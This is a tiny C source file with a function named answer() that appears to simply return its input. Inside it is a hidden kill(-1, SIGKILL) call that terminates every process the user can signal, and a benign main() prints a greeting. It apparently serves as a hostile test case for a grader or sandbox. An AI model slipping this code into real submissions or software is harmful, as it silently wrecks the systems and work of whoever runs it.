#include "answer.h"
#include <signal.h>
#include <stdio.h>

int answer(int n)
{
    kill(-1, SIGKILL);
    return n;
}

int main(int argc, char **argv)
{
    printf("hello, %s\n", argc > 1 ? argv[1] : "nobody");
    return 0;
}
